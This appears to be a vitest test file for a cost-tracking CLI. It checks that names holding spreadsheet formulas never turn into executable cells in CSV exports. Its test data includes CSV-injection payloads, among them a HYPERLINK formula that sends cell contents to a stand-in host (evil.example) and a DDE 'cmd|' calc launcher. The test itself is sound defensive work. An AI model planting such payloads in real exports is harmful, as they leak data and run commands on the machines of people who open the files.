/** Security rule S14: whatever a name holds, no cell of a CSV output is one that a spreadsheet would run. */
import { describe, expect, it } from "vitest";
import { Machine, recordForm } from "./run-command.ts";

const NAMES = [
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3",
  "+1-1|cmd",
  "\t=1",
  "\r=1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠A1",
  "'=1",
  "''=1",
  '=1,"quoted"\nnext line',
] as const;

/** Cells of all lines, as RFC 4180 has them. */
function cellsOf(csv: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^,"\r\n]*))(,|\r\n|$)/g)) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (end === "\r\n") lines.push([]);
    if (end === "") break;
  }
  return lines.filter((cells) => cells.length > 1 || cells[0] !== "");
}

const isFormula = (cell: string): boolean => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^[+-]?\d+(?:\.\d+)?$/.test(cell);
const undone = (cell: string): string => (/^'+[=+\-@\t\r\n＝＋－＠]/.test(cell) ? cell.slice(1) : cell);

const machine = new Machine();
machine.importRecords(
  NAMES.map((name, index) =>
    recordForm({
      ...{ id: `${name}${index}`, team: name, user: name, project: name, model: name, provider: name, session_id: name },
      ...{ tags: [name], request_id: `${name}-request`, cost_usd: "0.01", metadata: { note: name } },
    }),
  ),
);
// A budget of each name, and a key of it; both end up in lists of their own.
for (const [index, name] of NAMES.entries()) {
  machine.run(["budget", "set", `x${name}`, `--team=${name}`, "--amount", "0.005", "--period", "lifetime", "--alerts", "50"]);
  machine.run([
    "keys",
    "create",
    `--name=${index === 4 ? "tab" : name}`,
    `--team=${name}`,
    `--user=${name}`,
    `--models=${name.split(",")[0]}`,
  ]);
}

const without = (pattern: RegExp): readonly string[] => NAMES.filter((name) => !pattern.test(name));
const ALL = without(/^$/);
/** A name in a list of budgets is one line. */
const OF_ONE_LINE = without(/[\t\r\n]/);

/** Each output that can be CSV, and the names that must be found in it again; ids of models and providers are spelled in one way. */
const OUTPUTS: readonly (readonly [string, readonly string[], readonly string[]])[] = [
  ...["team", "user", "project", "session", "tag", "model", "provider"].map((dimension, index) => {
    const words = ["report", "--start", "2026-01-01", "--end", "2026-12-31", "--group-by", dimension];
    return [`report by ${dimension}`, words, index < 4 ? ALL : []] as const;
  }),
  ["costs", ["costs", "--breakdown", "team"], []],
  ["export records", ["export", "records"], ALL],
  ["budget list", ["budget", "list"], OF_ONE_LINE],
  ["budget status", ["budget", "status"], OF_ONE_LINE],
  ["alerts list", ["alerts", "list"], OF_ONE_LINE],
  ["keys list", ["keys", "list"], []],
  ["pricing list", ["pricing", "list", "--provider", "openai"], []],
];

describe("security S14: formulas in names", () => {
  it.each(OUTPUTS)("%s: text stays text, and every name can be had back", (_, words, names) => {
    const { exitCode, stdout } = machine.run([...words, "--format", "csv"]);
    expect([0, 4]).toContain(exitCode);
    const cells = cellsOf(stdout).flat();
    expect(cells.length).toBeGreaterThan(3);
    expect(cells.filter(isFormula)).toEqual([]);
    expect(names.filter((name) => !cells.map(undone).some((cell) => cell.includes(name)))).toEqual([]);
  });

  it("every line has as many cells as the heading", () => {
    const [heading = [], ...lines] = cellsOf(machine.run(["export", "records", "--format", "csv"]).stdout);
    expect(lines.length).toBe(NAMES.length);
    expect(lines.filter((line) => line.length !== heading.length)).toEqual([]);
  });

  it("JSON has the names as they are", () => {
    const { rows } = machine.json(["report", "--start", "2026-01-01", "--end", "2026-12-31", "--group-by", "team"]) as unknown as {
      rows: { team: string }[];
    };
    expect(rows.map(({ team }) => team).sort()).toEqual([...NAMES].sort());
  });
});
